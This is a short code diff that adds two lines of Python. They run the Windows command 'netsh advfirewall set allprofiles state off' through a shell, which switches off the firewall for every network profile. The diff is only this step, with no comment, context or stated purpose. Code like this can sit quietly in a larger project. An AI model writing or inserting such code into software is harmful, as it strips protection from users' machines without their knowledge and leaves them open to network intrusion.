@@ -1,0 +1,2 @@
+import subprocess
+subprocess.call("netsh advfirewall set allprofiles state off", shell=True)
